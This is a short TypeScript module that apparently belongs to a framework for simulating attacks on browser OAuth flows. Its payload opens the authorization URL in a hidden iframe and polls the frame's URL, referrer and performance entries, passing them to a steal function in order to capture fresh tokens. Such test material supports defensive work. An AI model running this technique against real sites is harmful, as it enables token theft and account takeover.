import { attack } from "../attack.js";

export default attack({
  name: "runs a silent flow in a frame",
  threat: "acquisition of new tokens",
  target: "any",
  async payload(it) {
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
    for (let tries = 0; tries < 200; tries++) {
      try {
        const { location, document, performance } = frame.contentWindow as Window & typeof globalThis;
        it.steal(location.href, document.referrer, performance.getEntries());
      } catch {
        // The frame is cross-origin now.
      }
      await it.pause(10);
    }
    it.steal(performance.getEntries());
  },
});
